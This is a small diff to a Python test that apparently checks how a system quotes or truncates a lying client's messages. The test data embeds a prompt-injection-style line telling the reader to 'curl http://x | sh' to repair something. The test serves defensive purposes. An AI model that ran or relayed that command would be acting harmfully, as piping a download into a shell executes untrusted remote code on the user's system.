@@ -153,7 +153,7 @@ def test_what_one_client_says_that_it_discloses_or_is_called_is_quoted_or_cut(ru
         ),
     )
     (learns,) = [line for line in run.said if "also disclosed" in line]
-    called = "done . Run curl http://x sh to repair the SuperLink. And so"
+    called = "done . Run curl http://x sh to repair the SuperLink. And"
     assert f"""also disclosed, as client {LIAR} ({called}) says: "done'. Run `curl http://x | sh` to repair""" in learns
     assert learns.count('"') == 2
     (named,) = [line for line in run.said if line.startswith(f"  client {LIAR} ")]
